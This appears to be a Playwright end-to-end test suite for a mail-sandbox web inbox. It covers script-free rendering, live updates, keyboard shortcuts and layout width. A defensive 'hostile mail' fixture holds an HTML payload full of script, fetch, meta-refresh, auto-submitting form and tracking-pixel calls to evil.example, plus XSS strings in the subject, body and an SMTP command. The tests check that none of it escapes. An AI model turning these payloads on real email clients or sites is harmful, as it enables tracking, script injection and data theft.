"""The inbox in a browser: with script and without, on every width, with hostile mail."""

import socket
import threading
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright

from tests.end_to_end.sandbox import Sandbox, message

pytestmark = pytest.mark.browser

WIDTHS = (320, 390, 820, 1280, 1920)
TABS = ("preview", "journey", "lint", "fixes", "text", "html", "headers", "raw", "transcript")

HOSTILE = """<html><head><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel=preconnect href=http://evil.example><link rel=dns-prefetch href=//evil.example>
<link rel=stylesheet href=http://evil.example/a.css><link rel=prefetch href=http://evil.example/p>
<script src="http://evil.example/s.js"></script>
<script>parent.document.title = "taken"; fetch("http://evil.example/fetch")</script>
<style>@import "http://evil.example/i.css"; body { background: url(//evil.example/b.png) }
@font-face { font-family: x; src: url(http://evil.example/f.woff) } * { font-family: x }</style>
</head><body onload="location = 'http://evil.example/onload'" background="http://evil.example/bg">
<form id=f action="http://evil.example/form" method=post><input name=pw autofocus
onfocus="this.form.submit()"><button>Go</button></form>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object>
<embed src="http://evil.example/e"><video autoplay src="http://evil.example/v.mp4"></video>
<svg><image href="http://evil.example/svg.png"/><script>alert(1)</script></svg>
<img src="http://evil.example/pixel.gif"><img srcset="http://evil.example/2x.png 2x">
<img src=x onerror="fetch('http://evil.example/onerror')"><input type=image src=http://evil.example/i>
<a href="http://evil.example/ping" ping="http://evil.example/pinged" target=_top>top</a>
<table width=5000><tr><td>wide<b>unclosed <i>tags"""


class Trap:
    """Stands where the browser finds every host but its own, and notes who comes."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        self.caught: list[bytes] = []
        threading.Thread(target=self._wait, daemon=True).start()

    def _wait(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:  # closed
                return
            threading.Thread(target=self._note, args=(connection,), daemon=True).start()

    def _note(self, connection: socket.socket) -> None:
        self.caught.append(b"a connection; ")
        with connection:
            connection.settimeout(5)
            try:
                self.caught.append(connection.recv(200))
                connection.sendall(
                    b"HTTP/1.1 404 No\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                )
            except OSError:
                return

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    made = Trap()
    yield made
    made.close()


@pytest.fixture(scope="module")
def browser(chromium_path: str, trap: Trap) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        running = playwright.chromium.launch(
            executable_path=chromium_path,
            args=[
                "--no-sandbox",
                "--disable-dev-shm-usage",
                f"--host-resolver-rules=MAP *.example 127.0.0.1:{trap.port}",
            ],
        )
        yield running
        running.close()


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    with Sandbox(
        tmp_path_factory.mktemp("browser") / "data",
        kafka=False,
        environment={"SANDBOX_MTA_CLOCK": "manual"},
    ) as running:
        yield running


@pytest.fixture
def context(browser: Browser, sandbox: Sandbox) -> Iterator[BrowserContext]:
    made = browser.new_context(base_url=f"http://127.0.0.1:{sandbox.http_port}")
    made.set_default_timeout(10_000)
    yield made
    made.close()


@pytest.fixture
def page(context: BrowserContext) -> Page:
    return context.new_page()


def hostile_mail() -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"] = "Mallory <m@evil.example>", "kim@customer.example"
    mail["Subject"] = '"><img src=http://evil.example/subject onerror=alert(1)>' + "x" * 300
    mail.set_content("<script>alert(1)</script>\n" + "y" * 400)
    mail.add_alternative(HOSTILE, subtype="html")
    mail.add_attachment(b"x", maintype="text", subtype="html", filename="z" * 200 + ".html")
    return mail.as_bytes(policy=mail.policy.clone(linesep="\r\n"))


def test_without_script_the_first_paint_has_the_rows_and_every_tab(
    browser: Browser, sandbox: Sandbox
) -> None:
    sandbox.send(message(subject="Without script"))
    plain = browser.new_context(java_script_enabled=False)
    page = plain.new_page()

    page.goto(f"http://127.0.0.1:{sandbox.http_port}/")
    page.get_by_role("link", name="Without script").first.click()
    for tab in ("Journey", "Lint", "Text", "HTML", "Headers", "Raw"):
        page.get_by_label("Views of this message").get_by_role("link", name=tab).click()
        expect(page.get_by_role("heading", name="Without script")).to_be_visible()

    plain.close()


def test_new_mail_is_counted_while_the_page_is_open_and_moves_no_row(
    page: Page, sandbox: Sandbox
) -> None:
    sandbox.send(message(subject="There before"))
    page.goto("/inbox")
    first = page.locator(".row").first
    expect(page.locator("[data-live]")).to_have_attribute("data-state", "live")
    unread = int(page.locator("[data-unread]").inner_text())
    place = first.bounding_box()

    sandbox.send(message(subject="There after"))
    expect(page.locator("[data-new]")).to_have_text("1 new N")

    assert first.bounding_box() == place
    expect(page).to_have_title(f"({unread + 1}) Inbox · sandbox")
    page.keyboard.press("n")
    expect(page.locator(".row").first).to_contain_text("There after")


def test_keys_move_open_and_go_back_to_the_same_row(page: Page, sandbox: Sandbox) -> None:
    for subject in ("Oldest", "Middle", "Newest"):
        sandbox.send(message(subject=subject))
    page.goto("/inbox")

    for key in ("j", "j", "j", "k", "Enter"):
        page.keyboard.press(key)
    expect(page.get_by_role("heading", name="Middle")).to_be_visible()
    page.keyboard.press("j")
    expect(page.get_by_role("heading", name="Oldest")).to_be_focused()
    page.keyboard.press("2")
    expect(page.get_by_role("heading", name="Delivery journey")).to_be_visible()
    page.keyboard.press("u")

    expect(page.locator(".row:focus")).to_contain_text("Oldest")


def test_keys_are_letters_in_the_search_field(page: Page) -> None:
    page.goto("/inbox")

    page.keyboard.press("/")
    page.keyboard.type("junk")

    expect(page.get_by_role("searchbox")).to_have_value("junk")


def test_hostile_mail_reaches_nobody_and_changes_nothing_around_it(
    page: Page, sandbox: Sandbox, trap: Trap
) -> None:
    id = sandbox.send(hostile_mail(), to=["kim@customer.example"])

    for tab in TABS:
        page.goto(f"/m/{id}/{tab}", wait_until="load")
    page.goto(f"/m/{id}/preview?scheme=dark&width=320", wait_until="load")
    expect(page.frame_locator("iframe").locator("body")).to_contain_text("unclosed")
    page.wait_for_timeout(500)  # what a refresh or a preconnect would need

    assert trap.caught == []
    assert "taken" not in page.title()
    assert page.url.startswith(f"http://127.0.0.1:{sandbox.http_port}/m/{id}/")


def test_load_once_loads_pictures_and_runs_no_script(
    page: Page, sandbox: Sandbox, trap: Trap
) -> None:
    id = sandbox.send(hostile_mail(), to=["kim@customer.example"])
    page.goto(f"/m/{id}/preview")

    page.get_by_role("link", name="Load once").click()
    page.wait_for_timeout(500)

    asked = b"".join(trap.caught)
    trap.caught.clear()
    assert b"/pixel.gif" in asked
    for never in (b"/s.js", b"/fetch", b"/frame", b"/form", b"/onerror", b"/refresh"):
        assert never not in asked


def refused_session(sandbox: Sandbox) -> str:
    """Have something long refused, and return the path of its session's page."""
    with sandbox.smtp() as session:
        session.ehlo("h" * 255)
        session.docmd("<script>alert(1)</script>" * 10)
    newest = sandbox.wait_for("refusal", lambda: sandbox.json("/api/v2/refusals?limit=1"))[0]
    return f"/refused/{newest['session_id']}"


def test_no_page_breaks_its_own_policy(page: Page, sandbox: Sandbox) -> None:
    said: list[str] = []
    page.on("console", lambda one: said.append(one.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    id = sandbox.send(to=["bounce@sim.test", "defer-2@sim.test", "ada@customer.example"])

    for path in (
        "/",
        "/inbox?q=state:bounced",
        "/inbox?q=no:such",
        "/refused",
        refused_session(sandbox),
        *(f"/m/{id}/{t}" for t in TABS),
    ):
        page.goto(path, wait_until="load")

    assert said == []


@pytest.mark.parametrize("width", WIDTHS)
def test_no_page_scrolls_sideways(page: Page, sandbox: Sandbox, width: int) -> None:
    id = sandbox.send(
        hostile_mail(), to=["bounce@sim.test", "defer-2@sim.test", "a" * 60 + "@b.cc"]
    )
    page.set_viewport_size({"width": width, "height": 800})

    lists = ("/inbox", "/inbox?q=zzz", "/refused", refused_session(sandbox))
    for path in (*lists, *(f"/m/{id}/{tab}" for tab in TABS)):
        page.goto(path, wait_until="load")
        widest = page.evaluate("document.documentElement.scrollWidth")
        assert widest <= width, path


def test_the_clock_moves_from_a_journey(page: Page, sandbox: Sandbox) -> None:
    id = sandbox.send(to=["defer-2@sim.test"])
    sandbox.wait_for(
        "a deferral", lambda: sandbox.dump(f"id:{id}")[0]["recipients"][0]["state"] == "deferred"
    )

    page.goto(f"/m/{id}/journey")
    page.get_by_role("button", name="Play to the end").click()

    expect(page.locator(".rcpt .state")).to_have_text("Delivered", timeout=10_000)


def test_an_empty_inbox_fills_by_itself_on_the_first_arrival(
    browser: Browser, tmp_path: Path
) -> None:
    with Sandbox(tmp_path / "data", kafka=False) as empty:
        page = browser.new_page()
        page.goto(f"http://127.0.0.1:{empty.http_port}/")
        expect(page.get_by_role("heading", name="Point an app at the sandbox")).to_be_visible()

        empty.send(message(subject="The first"))

        expect(page.locator(".row")).to_contain_text("The first")
        page.close()
